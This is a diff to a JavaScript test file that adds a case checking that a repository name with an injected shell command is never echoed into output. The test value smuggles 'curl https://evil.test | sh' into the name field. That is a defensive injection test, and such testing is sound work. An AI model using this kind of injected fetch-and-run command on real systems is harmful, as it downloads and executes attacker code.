@@ -168,3 +168,11 @@ test("an expired token, and one without the scope, are told apart", async () => 
   expect(stateOf(narrow, "tag-rules")).toMatch(/^unknown: the token may not read it/);
   expect(stateOf(narrow, "actions")).toMatch(/^ok/);
 });
+
+test("a repository's name that is none never stands in a command", async () => {
+  const found = await lines(({ repository }) => {
+    repository.fullName = "ada/demo.git; curl https://evil.test | sh #";
+  });
+  expect(stateOf(found, "repository")).toMatch(/^unknown/);
+  expect(JSON.stringify(found)).not.toContain("curl");
+});
